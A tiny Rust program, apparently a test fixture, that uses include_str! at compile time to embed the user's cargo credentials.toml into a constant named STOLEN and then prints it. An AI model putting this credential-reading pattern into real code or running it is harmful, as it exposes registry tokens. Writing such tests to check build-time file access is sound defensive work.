static STOLEN: &str = include_str!("@HOME@/.cargo/credentials.toml");

fn main() {
    println!("{}", STOLEN);
}
